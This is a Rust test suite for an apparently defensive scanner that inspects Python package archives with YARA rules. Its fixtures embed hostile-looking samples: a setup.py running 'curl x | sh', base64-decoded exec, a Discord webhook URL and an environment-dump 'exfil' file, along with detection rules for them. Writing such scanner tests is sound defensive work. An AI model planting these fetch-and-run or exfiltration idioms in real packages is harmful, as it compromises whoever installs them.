//! The engine against archives built here, compared with a plain yara-x
//! scan of the same files.

use std::collections::BTreeMap;
use std::io::Write;
use std::sync::Arc;
use std::time::Duration;

use dragonfly_flatten::LimitKind;

use dragonfly_engine::{
    DistributionError, Engine, FileError, Format, Limits, PackageReport, RuleSet, StopReason,
};

/// Rules exercising weights, filetypes, a rule for every file, and rules
/// that depend on private and global ones (the engine scans each file with
/// its file type's group of rules, which must carry those along).
fn rules_source() -> Vec<(&'static str, String)> {
    vec![
        (
            "py.yar",
            r#"
            private rule has_import { strings: $i = "import" condition: $i }
            rule exec_b64 { meta: weight = 5 filetype = ".py"
                strings: $a = "exec(base64" condition: $a and has_import }
            rule setup_system { meta: weight = 7 filetype = "setup.py"
                strings: $a = "os.system(" condition: $a }
            rule webhook { meta: weight = 3 filetype = ".py .pth"
                strings: $a = /discord(app)?\.com\/api\/webhooks/ condition: $a }
            "#
            .to_owned(),
        ),
        (
            "any.yar",
            r#"
            global private rule small_binaries_only {
                condition: uint32(0) != 0x464C457F or filesize < 5000 }
            rule elf_anywhere { meta: weight = 2
                strings: $a = { 7F 45 4C 46 } condition: $a at 0 }
            rule webhook_text { meta: weight = 1 filetype = ".txt"
                strings: $a = "webhooks" condition: $a }
            "#
            .to_owned(),
        ),
    ]
}

fn payload(parts: &[&str]) -> Vec<u8> {
    parts.concat().into_bytes()
}

/// (path, bytes) of a realistic package with a few suspicious files.
fn package_files(root: &str) -> Vec<(String, Vec<u8>)> {
    let mut elf = vec![0x7f, b'E', b'L', b'F'];
    elf.extend((0..5000u32).map(|i| (i.wrapping_mul(2654435761) >> 24) as u8));
    vec![
        (format!("{root}/setup.py"), payload(&["import os\n", "os.sys", "tem(", "'curl x | sh')\n"])),
        (format!("{root}/pkg/__init__.py"), b"from .core import run\n__all__ = ['run']\n".to_vec()),
        (
            format!("{root}/pkg/core.py"),
            payload(&["import base64\n", "exec(base", "64.b64decode('cHJpbnQoMSk='))\n"]),
        ),
        (
            format!("{root}/pkg/hook.pth"),
            payload(&["import x; u='https://discord.com/api/web", "hooks/1/abc'\n"]),
        ),
        (
            format!("{root}/pkg/notes.txt"),
            payload(&["see https://discord.com/api/web", "hooks/ for details\n"]),
        ),
        (format!("{root}/pkg/data.json"), b"{\"exec(base64\": 1}".to_vec()),
        (format!("{root}/pkg/_speedups.so"), elf),
        (format!("{root}/README.md"), b"# pkg\nos.system( in a readme does not count\n".to_vec()),
    ]
}

fn sdist(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut builder =
        tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
    for (path, data) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, path, data.as_slice()).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn wheel(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (path, data) in files {
        zip.start_file(path.as_str(), options).unwrap();
        zip.write_all(data).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// The reference: every file scanned with a fresh yara-x scanner, matches
/// filtered by `filetype` afterwards. Returns path -> sorted rule names.
fn reference(rules: &RuleSet, files: &[(String, Vec<u8>)]) -> BTreeMap<String, Vec<String>> {
    let mut out = BTreeMap::new();
    for (path, data) in files {
        let mut scanner = yara_x::Scanner::new(rules.yara());
        let results = scanner.scan(data).unwrap();
        let mut names: Vec<String> = results
            .matching_rules()
            .filter(|r| {
                rules.rules().iter().find(|i| i.name == r.identifier()).is_some_and(|i| i.applies_to(path))
            })
            .map(|r| r.identifier().to_owned())
            .collect();
        names.sort();
        if !names.is_empty() {
            out.insert(path.clone(), names);
        }
    }
    out
}

fn engine_matches(report: &dragonfly_engine::DistributionReport) -> BTreeMap<String, Vec<String>> {
    report
        .files
        .iter()
        .map(|f| {
            let mut names: Vec<String> = f.matches.iter().map(|m| m.name.clone()).collect();
            names.sort();
            (f.path.clone(), names)
        })
        .collect()
}

#[test]
fn sdist_and_wheel_match_a_fresh_scanner_per_file() {
    let rules = Arc::new(RuleSet::compile("t", rules_source()).unwrap());
    let engine = Engine::new(Arc::clone(&rules));
    let files = package_files("pkg-1.0");
    let expected = reference(&rules, &files);
    // The .so file (5004 bytes) fails the global rule: no elf_anywhere.
    assert_eq!(expected.len(), 4, "fixture sanity: {expected:?}");
    assert!(!expected.contains_key("pkg-1.0/pkg/_speedups.so"));
    // The groups are used, not given up for the whole set.
    assert_eq!(rules.group_count(), 5);

    for (name, bytes) in [("pkg-1.0.tar.gz", sdist(&files)), ("pkg-1.0-py3-none-any.whl", wheel(&files))] {
        let report = engine.scan_archive(&format!("https://files.example/packages/aa/{name}"), &bytes);
        assert!(report.is_complete(), "{name}: {report:?}");
        assert_eq!(engine_matches(&report), expected, "{name}");
        // setup.py (7) + exec_b64 (5) + webhook (3) + webhook_text (1).
        assert_eq!(report.score(), 16, "{name}");
        assert_eq!(report.most_malicious_file().unwrap().path, "pkg-1.0/setup.py");
    }
}

#[test]
fn skipping_unfiltered_files_changes_nothing() {
    // Only .py rules: files of other types are skipped, and the result must
    // equal scanning everything and filtering afterwards.
    let rules = Arc::new(RuleSet::compile("t", [("py.yar", rules_source()[0].1.clone())]).unwrap());
    let engine = Engine::new(Arc::clone(&rules));
    let files = package_files("p-1");
    let expected = reference(&rules, &files);
    for bytes in [sdist(&files), wheel(&files)] {
        let report = engine.scan_archive("p-1.tar.gz", &bytes);
        assert_eq!(engine_matches(&report), expected);
        assert_eq!(report.files_scanned, 4, "setup.py, __init__.py, core.py, hook.pth");
        assert_eq!(report.files_skipped, 4, "notes.txt, data.json, .so, README.md");
    }
}

#[test]
fn excluded_zip_entries_are_not_decompressed() {
    let rules = Arc::new(RuleSet::compile("t", [("py.yar", rules_source()[0].1.clone())]).unwrap());
    let engine = Engine::new(rules).with_limits(Limits { max_file_bytes: 1 << 20, ..Limits::default() });
    let mut files = package_files("p-1");
    // Far over the per-file limit, but no rule applies to .bin files.
    files.push(("p-1/blob.bin".into(), vec![0u8; 8 << 20]));
    let report = engine.scan_archive("p-1.whl", &wheel(&files));
    assert!(report.is_complete(), "{report:?}");
    assert_eq!(report.score(), 15);
    // The same oversized file with a .py name is read and refused.
    files.push(("p-1/blob.py".into(), vec![0u8; 8 << 20]));
    let report = engine.scan_archive("p-1.whl", &wheel(&files));
    match report.error {
        Some(DistributionError::Archive(dragonfly_flatten::Error::LimitExceeded { path, .. })) => {
            assert_eq!(path.as_deref(), Some("p-1/blob.py"))
        }
        other => panic!("expected a file-size limit, got {other:?}"),
    }
}

#[test]
fn a_new_rule_set_gets_a_new_scanner() {
    let first =
        Arc::new(RuleSet::compile("a", [("a", "rule a { meta: weight = 1 condition: true }")]).unwrap());
    let second =
        Arc::new(RuleSet::compile("b", [("b", "rule b { meta: weight = 2 condition: true }")]).unwrap());
    let file = || vec![dragonfly_engine::File::new("x.py", b"x".to_vec())];
    let one = Engine::new(first).scan_files("d", file());
    let two = Engine::new(second).scan_files("d", file());
    assert_eq!((one.files[0].matches[0].name.as_str(), two.files[0].matches[0].name.as_str()), ("a", "b"));
}

#[test]
fn timeouts_are_failures_naming_the_file() {
    // Quadratic loop: far more than a second on 200 kB.
    let slow = r#"rule slow { meta: weight = 1
        condition: for all i in (0..filesize - 1) : (
            for all j in (0..filesize - 1) : (uint8(i) != uint8(j) or i == j or true)) }"#;
    let rules = Arc::new(RuleSet::compile("t", [("slow.yar", slow)]).unwrap());
    let engine = Engine::new(rules).with_timeout(Duration::from_secs(1));
    let files = vec![
        dragonfly_engine::File::new("big.py", vec![b'a'; 200_000]),
        dragonfly_engine::File::new("small.py", b"ok".to_vec()),
    ];
    let report = engine.scan_files("https://h/p-1.tar.gz", files);
    // The first timeout stops the distribution: it is a failure already.
    assert_eq!(report.file_errors.len(), 2, "{report:?}");
    assert_eq!(report.file_errors[0].path, "big.py");
    assert_eq!(report.file_errors[0].error, FileError::Timeout { seconds: 1 });
    assert_eq!(report.file_errors[1].path, "small.py");
    assert_eq!(
        report.file_errors[1].error,
        FileError::Stopped { reason: StopReason::EarlierTimeout, count: 1 }
    );
    assert_eq!(report.files_scanned, 1);
    let package = PackageReport {
        name: "p".into(),
        version: "1".into(),
        rule_hash: "t".into(),
        distributions: vec![report],
    };
    assert!(!package.is_complete(), "a timeout must not be reported as a score");
    let problems: Vec<String> = package.problems().map(|p| p.to_string()).collect();
    assert_eq!(
        problems,
        [
            "https://h/p-1.tar.gz: `big.py`: scan timed out after 1 s",
            "https://h/p-1.tar.gz: `small.py`: not scanned: an earlier file timed out; 1 file(s) left unscanned"
        ]
    );
}

#[test]
fn no_file_is_started_after_the_deadline() {
    let rules =
        Arc::new(RuleSet::compile("t", [("a.yar", "rule a { meta: weight = 1 condition: true }")]).unwrap());
    let files: Vec<dragonfly_flatten::File> =
        (0..5).map(|i| dragonfly_flatten::File::new(format!("f{i}.py"), b"x".to_vec())).collect();
    let tar = {
        let mut builder = tar::Builder::new(Vec::new());
        for file in &files {
            let mut header = tar::Header::new_gnu();
            header.set_size(file.data.len() as u64);
            header.set_mode(0o644);
            builder.append_data(&mut header, &file.path, file.data.as_slice()).unwrap();
        }
        builder.into_inner().unwrap()
    };
    let past = Some(std::time::Instant::now());
    let engine = Engine::new(rules.clone()).with_deadline(past);
    for report in [engine.scan_files("d", files.clone()), engine.scan_archive("d.tar", &tar)] {
        assert_eq!(report.files_scanned, 0, "{report:?}");
        assert_eq!(report.file_errors.len(), 1);
        assert_eq!(report.file_errors[0].path, "f0.py");
        assert_eq!(
            report.file_errors[0].error,
            FileError::Stopped { reason: StopReason::Deadline, count: 5 }
        );
    }
    let later = Some(std::time::Instant::now() + Duration::from_secs(3600));
    let report = Engine::new(rules).with_deadline(later).scan_files("d", files);
    assert!(report.is_complete());
    assert_eq!(report.files_scanned, 5);
}

#[test]
fn limits_and_bad_archives_are_reported() {
    let rules = Arc::new(RuleSet::bundled());
    let engine = Engine::new(rules).with_limits(Limits { max_total_bytes: 10_000, ..Limits::default() });
    let files = vec![("p-1/a.py".to_owned(), vec![b'x'; 50_000])];
    let report = engine.scan_archive("p-1.tar.gz", &sdist(&files));
    assert!(
        matches!(
            report.error,
            Some(DistributionError::Archive(dragonfly_flatten::Error::LimitExceeded {
                kind: LimitKind::TotalBytes,
                limit: 10_000,
                ..
            }))
        ),
        "{report:?}"
    );
    let report = engine.scan_archive("p-1.tar.gz", b"definitely not an archive");
    assert!(
        matches!(
            report.error,
            Some(DistributionError::Archive(dragonfly_flatten::Error::UnsupportedFormat { .. }))
        ),
        "{report:?}"
    );
}

#[test]
fn large_distributions_scan_in_parallel_with_the_same_result() {
    let rules = Arc::new(RuleSet::compile("t", rules_source()).unwrap());
    let engine = Engine::new(Arc::clone(&rules));
    let mut files = package_files("big-1");
    for i in 0..64 {
        let mut data = vec![b'#'; 40_000];
        if i % 16 == 0 {
            data.extend_from_slice(&payload(&["\nimport base64\nexec(base", "64.b64decode('eA=='))"]));
        }
        files.push((format!("big-1/gen/m{i}.py"), data));
    }
    let expected = reference(&rules, &files);
    let report = engine.scan_archive("big-1.whl", &wheel(&files));
    assert!(report.bytes_scanned > 2 << 20);
    assert_eq!(engine_matches(&report), expected);
    let paths: Vec<&str> = report.files.iter().map(|f| f.path.as_str()).collect();
    let mut sorted_by_archive_order = paths.clone();
    sorted_by_archive_order.sort_by_key(|p| files.iter().position(|(q, _)| q == p));
    assert_eq!(paths, sorted_by_archive_order, "reports keep archive order");
}

/// Incompressible bytes, so that an archive of them is large.
fn noise(seed: u32, len: usize) -> Vec<u8> {
    let mut x = seed.wrapping_mul(2_654_435_761).max(1);
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            (x >> 24) as u8
        })
        .collect()
}

#[test]
fn large_wheels_are_extracted_and_scanned_file_parallel() {
    let rules = Arc::new(RuleSet::compile("t", rules_source()).unwrap());
    let engine = Engine::new(Arc::clone(&rules));
    let mut files = package_files("big-2");
    for i in 0..40 {
        let mut data = noise(i + 1, 64 << 10);
        if i % 10 == 3 {
            data.extend_from_slice(&payload(&["\nimport base64\nexec(base", "64.b64decode('eA=='))"]));
        }
        files.push((format!("big-2/gen/m{i}.py"), data));
    }
    let bytes = wheel(&files);
    assert!(bytes.len() > 2 << 20, "the archive must take the parallel path");

    let report = engine.scan_archive("https://h/big-2-py3-none-any.whl", &bytes);
    assert!(report.is_complete(), "{report:?}");
    let flat =
        dragonfly_flatten::flatten_filtered(&bytes, &Limits::default(), &|p| rules.applies_to(p)).unwrap();
    let sequential = engine.scan_files("https://h/big-2-py3-none-any.whl", flat.files);
    assert_eq!(report.files, sequential.files, "same matches, same (archive) order");
    assert_eq!(report.files_scanned, sequential.files_scanned);
    assert_eq!(report.bytes_scanned, sequential.bytes_scanned);
    assert_eq!(report.format, Some(Format::Zip));
    assert_eq!(engine_matches(&report), reference(&rules, &files));
    assert!(report.files.iter().filter(|f| f.path.starts_with("big-2/gen/")).count() == 4);

    // Limits still hold, and the failure names the file.
    let strict = Engine::new(rules).with_limits(Limits { max_file_bytes: 32 << 10, ..Limits::default() });
    let failed = strict.scan_archive("big-2.whl", &bytes);
    let error = failed.error.expect("a file is over the limit").to_string();
    assert!(error.contains("big-2/gen/m"), "{error}");
}

#[test]
fn a_production_shaped_rule_set_with_pe_and_shared_private_rules() {
    let rules = Arc::new(RuleSet::compile("prod", dragonfly_testkit::fixtures::production_rules()).unwrap());
    let engine = Engine::new(Arc::clone(&rules));
    let exfil = payload(&["import socket\n", "data = dict(os.env", "iron)\n"]);
    let files = vec![
        ("p-1/p/_native.pyd".to_owned(), dragonfly_testkit::fixtures::minimal_pe()),
        ("p-1/p/leak.py".to_owned(), exfil),
        ("p-1/p/plain.py".to_owned(), payload(&["data = dict(os.env", "iron)\n"])),
        ("p-1/p/not_a_dll.dll".to_owned(), b"MZ but nothing else".to_vec()),
    ];
    let report = engine.scan_archive("p-1-py3-none-any.whl", &wheel(&files));
    assert!(report.is_complete(), "{report:?}");
    let matched: Vec<(&str, &str)> = report
        .files
        .iter()
        .flat_map(|f| f.matches.iter().map(move |m| (f.path.as_str(), m.name.as_str())))
        .collect();
    assert_eq!(
        matched,
        [("p-1/p/_native.pyd", "windows_binary_in_package"), ("p-1/p/leak.py", "env_exfiltration")]
    );
    assert_eq!(report.score(), 10);
    assert_eq!(engine_matches(&report), reference(&rules, &files));
}

#[test]
fn a_file_is_scanned_with_the_rules_of_every_name_it_could_be_installed_under() {
    let source = r#"
        rule py_exec { meta: weight = 5 filetype = ".py" strings: $a = "exec(" condition: $a }
        rule txt_url { meta: weight = 1 filetype = ".txt" strings: $a = "exec(" condition: $a }
        rule any_pyc { meta: weight = 2 strings: $m = { 55 0D 0D 0A } condition: $m at 0 }
    "#;
    let engine = Engine::new(Arc::new(RuleSet::compile("t", [("a.yar", source)]).unwrap()));
    let mut file = dragonfly_flatten::File::new("pkg/notes.txt", b"exec(payload)".to_vec());
    file.aliases = vec!["pkg/setup.py".into()];
    let report = engine.scan_files("d", vec![file]);
    let names: Vec<&str> = report.files[0].matches.iter().map(|m| m.name.as_str()).collect();
    assert_eq!(names, ["py_exec", "txt_url"], "rules of both names, each once");
    assert_eq!(report.files[0].aliases, ["pkg/setup.py"]);

    // Suffixes match regardless of ASCII case: SETUP.PY is setup.py on a
    // case-insensitive file system.
    let upper = engine.scan_files("d", vec![dragonfly_flatten::File::new("pkg/SETUP.PY", b"exec(".to_vec())]);
    assert_eq!(upper.files[0].matches[0].name, "py_exec");

    // Bytecode is a file like any other: the rules decide.
    let pyc = engine.scan_files(
        "d",
        vec![dragonfly_flatten::File::new(
            "pkg/__pycache__/m.cpython-312.pyc",
            b"\x55\x0d\x0d\x0a rest".to_vec(),
        )],
    );
    assert_eq!(pyc.files[0].matches[0].name, "any_pyc");
}

#[test]
fn archives_inside_a_large_wheel_are_opened_and_reported_by_inner_path() {
    let rules = r#"rule py_exec { meta: weight = 5 filetype = ".py" strings: $a = "exec(" condition: $a }"#;
    let engine = Engine::new(Arc::new(RuleSet::compile("t", [("a.yar", rules)]).unwrap()));
    let zip = |files: &[(&str, &[u8])]| {
        let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let stored =
            zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
        for (name, data) in files {
            writer.start_file(*name, stored).unwrap();
            writer.write_all(data).unwrap();
        }
        writer.finish().unwrap().into_inner()
    };
    let inner = zip(&[("evil/setup.py", b"exec(payload)")]);
    // Over a MiB, so that the wheel's files are extracted in parallel.
    let filler: Vec<u8> = (0..(2u32 << 20)).map(|i| (i % 251) as u8).collect();
    let wheel = zip(&[("pkg/vendor.zip", inner.as_slice()), ("pkg/data.bin", filler.as_slice())]);
    let report = engine.scan_archive("https://h/pkg-1.0-py3-none-any.whl", &wheel);
    assert!(report.is_complete(), "{report:?}");
    let paths: Vec<&str> = report.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, ["pkg/vendor.zip!/evil/setup.py"]);
    assert!(report.anomalies.iter().any(|a| a.kind == dragonfly_engine::AnomalyKind::NestedArchive));
}

#[test]
fn matches_carry_evidence_and_files_their_digest() {
    let source = r#"
        rule two_patterns { meta: weight = 4 filetype = ".py"
            strings: $call = "os.system(" $quiet = "import" private $url = /https?:\/\/[a-z.]+/
            condition: $call and $quiet and $url }
        rule every_byte { meta: weight = 1 filetype = ".py" strings: $x = "x" condition: #x > 0 }
        rule no_pattern { meta: weight = 2 filetype = ".py" condition: filesize > 10 }
    "#;
    let engine = Engine::new(Arc::new(RuleSet::compile("t", [("e.yar", source)]).unwrap()));
    let data = format!("import os\n{}\nos.system('curl http://a.example')\n", "x".repeat(20)).into_bytes();
    let report = engine.scan_files("d", vec![dragonfly_flatten::File::new("p/m.py", data.clone())]);
    let file = &report.files[0];
    let sha: String = sha2::Digest::finalize(<sha2::Sha256 as sha2::Digest>::new_with_prefix(&data))
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert_eq!(file.sha256, sha);
    let rule = |name: &str| file.matches.iter().find(|m| m.name == name).unwrap();
    let two = rule("two_patterns");
    // Private patterns give no evidence; the rest in file order.
    let found: Vec<(&str, u64, u64)> =
        two.evidence.iter().map(|e| (e.pattern.as_str(), e.line, e.column)).collect();
    assert_eq!(found, [("$call", 3, 1), ("$url", 3, 17)]);
    assert_eq!(two.match_count, 2);
    assert_eq!(two.evidence[1].matched, "http://a.example");
    let start = two.evidence[0].offset as usize;
    assert_eq!(&data[start..start + two.evidence[0].length as usize], b"os.system(");
    // At most MAX_EVIDENCE kept, every match counted (20 in a row, one in the URL).
    let every = rule("every_byte");
    assert_eq!((every.evidence.len(), every.match_count), (dragonfly_engine::MAX_EVIDENCE, 21));
    assert!(rule("no_pattern").evidence.is_empty());
    // Same content, same digest; one byte more, another.
    let again = engine.scan_files("d", vec![dragonfly_flatten::File::new("q/n.py", data.clone())]);
    assert_eq!(again.files[0].sha256, file.sha256);
    let mut changed = data;
    changed.push(b'\n');
    let other = engine.scan_files("d", vec![dragonfly_flatten::File::new("q/n.py", changed)]);
    assert_ne!(other.files[0].sha256, file.sha256);
}

#[test]
fn the_file_observer_sees_every_scanned_file() {
    use std::sync::atomic::{AtomicU64, Ordering};
    let seen = Arc::new((AtomicU64::new(0), AtomicU64::new(0)));
    let counter = Arc::clone(&seen);
    let observer = dragonfly_engine::FileObserver::new(move |bytes| {
        counter.0.fetch_add(1, Ordering::Relaxed);
        counter.1.fetch_add(bytes, Ordering::Relaxed);
    });
    let rules = RuleSet::compile("t", rules_source()).unwrap();
    let engine = Engine::new(Arc::new(rules)).with_file_observer(Some(observer));
    // Large enough for the parallel path: files scanned on rayon threads count too.
    let files: Vec<dragonfly_flatten::File> = (0..8)
        .map(|i| dragonfly_flatten::File::new(format!("p/m{i}.py"), vec![b'a'; 300_000]))
        .chain([dragonfly_flatten::File::new("p/README", b"any file".to_vec())])
        .collect();
    let report = engine.scan_files("d", files);
    assert_eq!(report.files_scanned, 9);
    assert_eq!((seen.0.load(Ordering::Relaxed), seen.1.load(Ordering::Relaxed)), (9, 2_400_008));
}

#[test]
fn reused_results_are_the_results_of_a_full_scan() {
    use dragonfly_engine::{ReuseCache, ReuseMode};
    let rules = Arc::new(RuleSet::bundled());
    let plain = Engine::new(Arc::clone(&rules));
    let cache = Arc::new(ReuseCache::new(ReuseMode::Reuse, 64 << 20).with_audit_every(0));
    let reusing = Engine::new(Arc::clone(&rules)).with_reuse(Some(Arc::clone(&cache)));
    let corpus = dragonfly_testkit::fixtures::demo_corpus();
    let summary = |r: &dragonfly_engine::DistributionReport| {
        let files: Vec<_> =
            r.files.iter().map(|f| (f.path.clone(), f.sha256.clone(), f.matches.clone())).collect();
        let anomalies = format!("{:?}", r.anomalies);
        (
            r.score(),
            files,
            r.files_scanned,
            r.files_skipped,
            r.bytes_scanned,
            r.file_errors.clone(),
            anomalies,
        )
    };
    let mut reused = 0;
    for round in 0..2 {
        for package in &corpus {
            for dist in &package.distributions {
                let want = plain.scan_archive(&dist.filename, &dist.bytes);
                let got = reusing.scan_archive(&dist.filename, &dist.bytes);
                assert_eq!(summary(&got), summary(&want), "{} round {round}", dist.filename);
                if round == 1 {
                    assert_eq!(got.reuse.reused_files, got.reuse.candidate_files, "{}", dist.filename);
                    assert_eq!(got.reuse.engine_files, 0, "{}", dist.filename);
                    reused += got.reuse.reused_files;
                }
            }
        }
    }
    assert!(reused > 0);
    assert_eq!(cache.totals().mismatched_files, 0);
}

#[test]
fn identical_files_in_a_package_are_scanned_once() {
    use dragonfly_engine::{ReuseCache, ReuseMode};
    let cache = Arc::new(ReuseCache::new(ReuseMode::Reuse, 1 << 20).with_audit_every(0));
    let engine =
        Engine::new(Arc::new(RuleSet::compile("t", rules_source()).unwrap())).with_reuse(Some(cache));
    let same = payload(&["import os\n", "os.sys", "tem('x')\n"]);
    let files = ["a/setup.py", "b/setup.py", "c/m.py", "d/setup.py"]
        .map(|path| dragonfly_flatten::File::new(path, same.clone()))
        .to_vec();
    let report = engine.scan_files("d", files);
    // setup.py is one group, m.py another: two scans for four files.
    assert_eq!((report.reuse.engine_files, report.reuse.reused_files), (2, 2), "{:?}", report.reuse);
    let scores: Vec<i64> = report.files.iter().map(|f| f.score).collect();
    assert_eq!(scores[0], scores[1]);
    assert_eq!(report.files.iter().filter(|f| f.matches.iter().any(|m| m.name == "setup_system")).count(), 3);
}

#[test]
fn unchanged_wheel_entries_are_not_even_decompressed() {
    use dragonfly_engine::{ReuseCache, ReuseMode};
    let rules = Arc::new(RuleSet::compile("t", rules_source()).unwrap());
    let plain = Engine::new(Arc::clone(&rules));
    let cache = Arc::new(ReuseCache::new(ReuseMode::Reuse, 64 << 20).with_audit_every(0));
    let reusing = Engine::new(Arc::clone(&rules)).with_reuse(Some(cache));
    let release = |version: u32| {
        let mut files = package_files("big-3");
        for i in 0..40 {
            let mut data = noise(i + 1, 64 << 10);
            if i % 10 == 3 {
                data.extend_from_slice(&payload(&["\nimport base64\nexec(base", "64.b64decode('eA=='))"]));
            }
            if i == 7 {
                data.extend_from_slice(format!("\nV = {version}\n").as_bytes());
            }
            files.push((format!("big-3/gen/m{i}.py"), data));
        }
        wheel(&files)
    };
    let summary = |r: &dragonfly_engine::DistributionReport| {
        (
            r.files.clone(),
            r.files_scanned,
            r.bytes_scanned,
            r.score(),
            r.error.as_ref().map(|e| e.to_string()),
        )
    };
    let first = reusing.scan_archive("big-3-1.whl", &release(1));
    assert_eq!(first.reuse.unextracted_files, 0);
    let bytes = release(2);
    let second = reusing.scan_archive("big-3-2.whl", &bytes);
    assert_eq!(summary(&second), summary(&plain.scan_archive("big-3-2.whl", &bytes)));
    // 40 generated files: 4 match (their evidence needs the bytes), one changed.
    assert!(second.reuse.unextracted_files >= 35, "{:?}", second.reuse);
    assert_eq!(second.reuse.engine_files, 1, "only the changed file is scanned: {:?}", second.reuse);

    // Files not decompressed still count against the limits.
    let limits = Limits { max_total_bytes: 1 << 20, ..Limits::default() };
    let strict = reusing.clone().with_limits(limits.clone());
    let want = plain.clone().with_limits(limits).scan_archive("big-3-2.whl", &bytes);
    let got = strict.scan_archive("big-3-2.whl", &bytes);
    assert!(want.error.is_some());
    assert_eq!(
        got.error.map(|e| std::mem::discriminant(&e)),
        want.error.map(|e| std::mem::discriminant(&e)),
        "the same limit is crossed"
    );
}

#[test]
fn a_restarted_engine_with_a_store_still_skips_decompressing() {
    use std::collections::HashMap;
    use std::sync::Mutex;

    use dragonfly_engine::{ResultStore, ReuseCache, ReuseMode};

    #[derive(Debug, Default)]
    struct Memory(Mutex<HashMap<Vec<u8>, Vec<u8>>>);
    impl ResultStore for Memory {
        fn load(&self, key: &[u8]) -> Option<Vec<u8>> {
            self.0.lock().unwrap().get(key).cloned()
        }
        fn save(&self, entries: Vec<(Vec<u8>, Vec<u8>)>) {
            self.0.lock().unwrap().extend(entries);
        }
        fn forget(&self, prefix: &[u8]) {
            self.0.lock().unwrap().retain(|k, _| !k.starts_with(prefix));
        }
    }

    let sources = rules_source();
    let rules = Arc::new(RuleSet::compile("t", sources.clone()).unwrap());
    let store: Arc<Memory> = Arc::default();
    let start = || {
        let cache = ReuseCache::new(ReuseMode::Reuse, 64 << 20).with_audit_every(0).with_store(
            store.clone(),
            &rules,
            &dragonfly_engine::rules_digest(sources.clone()),
        );
        Engine::new(Arc::clone(&rules)).with_reuse(Some(Arc::new(cache)))
    };
    let mut files = package_files("big-4");
    for i in 0..30 {
        files.push((format!("big-4/gen/m{i}.py"), noise(i + 7, 64 << 10)));
    }
    let bytes = wheel(&files);
    let first = start().scan_archive("big-4.whl", &bytes);
    assert_eq!(first.reuse.unextracted_files, 0);
    let again = start().scan_archive("big-4.whl", &bytes);
    assert_eq!(again.files, first.files);
    assert!(again.reuse.unextracted_files >= 30, "{:?}", again.reuse);
}

#[test]
fn a_release_stream_gives_the_same_reports_with_reuse_and_without() {
    use dragonfly_engine::{ReuseCache, ReuseMode};
    let rules = Arc::new(RuleSet::bundled());
    let plain = Engine::new(Arc::clone(&rules));
    let engines: Vec<(ReuseMode, Engine)> = [ReuseMode::Observe, ReuseMode::Reuse]
        .into_iter()
        .map(|mode| {
            let cache = ReuseCache::new(mode, 64 << 20).with_audit_every(7);
            (mode, Engine::new(Arc::clone(&rules)).with_reuse(Some(Arc::new(cache))))
        })
        .collect();
    let summary = |r: &dragonfly_engine::DistributionReport| {
        let anomalies = format!("{:?}", r.anomalies);
        (r.files.clone(), r.files_scanned, r.files_skipped, r.bytes_scanned, r.file_errors.clone(), anomalies)
    };
    let mut unextracted = 0;
    for package in dragonfly_testkit::fixtures::release_stream(2, 4) {
        for dist in &package.distributions {
            let want = summary(&plain.scan_archive(&dist.filename, &dist.bytes));
            for (mode, engine) in &engines {
                let got = engine.scan_archive(&dist.filename, &dist.bytes);
                assert_eq!(summary(&got), want, "{mode} {}", dist.filename);
                assert_eq!(got.reuse.mismatched_files, 0);
                unextracted += got.reuse.unextracted_files;
            }
        }
    }
    assert!(unextracted > 0, "later wheels' unchanged entries were not decompressed");
}
